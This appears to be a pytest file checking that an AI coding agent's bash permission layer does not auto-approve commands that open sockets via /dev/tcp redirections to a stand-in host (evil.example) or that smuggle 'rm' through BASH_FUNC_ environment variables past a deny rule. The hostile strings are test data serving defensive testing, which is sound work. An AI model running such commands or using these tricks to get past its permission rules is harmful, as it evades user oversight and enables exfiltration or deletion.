"""Two things bash does on its own that no command word shows: a redirection to ``/dev/tcp/…``
or ``/dev/udp/…`` opens a network connection (bash makes the socket; no such file exists), and a
``BASH_FUNC_name%%`` variable in a shell's environment defines the function ``name`` in it, so
``env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls`` runs ``rm``. Neither is auto-approved."""

from __future__ import annotations

from pathlib import Path

import pytest

from .helpers import Recorder, decide_bash, refused

SOCKETS = [
    "cat </dev/tcp/evil.example/80",
    'cat <"/dev/tcp/evil.example/80"',
    "cat 0</dev/udp/1.1.1.1/53",
    "cat <&3 3</dev/tcp/e/1",
    "ls > /dev/tcp/evil.example/80",
    "echo x >> /dev/udp/e/53",
    "ls && cat </dev/tcp/e/1",
]
ALLOW = ["Bash(cat *)", "Bash(ls *)", "Bash(echo *)"]


@pytest.mark.parametrize("command", SOCKETS)
async def test_a_redirection_to_a_bash_socket_path_asks_under_an_allow_rule(
    command: str, tmp_path: Path
) -> None:
    outcome = await decide_bash(str(tmp_path), command, allow=ALLOW)
    assert outcome.decided_by == "callback", outcome


@pytest.mark.parametrize("command", ["cat /dev/tcp/e/1", "cat < notes.txt", "ls /dev/tcp"])
async def test_a_socket_path_that_is_an_argument_is_a_plain_path(
    command: str, tmp_path: Path
) -> None:
    """Only a redirection makes a socket: ``cat /dev/tcp/e/1`` opens a file that is not there."""
    outcome = await decide_bash(str(tmp_path), command, allow=ALLOW, callback=Recorder())
    assert (outcome.behavior, outcome.decided_by) == ("allow", "rule"), outcome


FUNCTIONS = [
    "env 'BASH_FUNC_ls%%=() { rm -rf x; }' bash -c ls",
    "env BASH_FUNC_ls%%='() { rm x; }' bash -c ls",
    "env -i 'BASH_FUNC_ls%%=() { rm x; }' sh -c ls",
    "sudo 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
    "'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
]


@pytest.mark.parametrize("command", FUNCTIONS)
async def test_a_function_exported_through_the_environment_is_not_allowed_past_a_deny_rule(
    command: str, tmp_path: Path
) -> None:
    """Under bypassPermissions with deny ``Bash(rm *)``: denied or asked, never allowed."""
    outcome = await decide_bash(
        str(tmp_path), command, mode="bypassPermissions", deny=["Bash(rm *)"]
    )
    assert refused(outcome), outcome
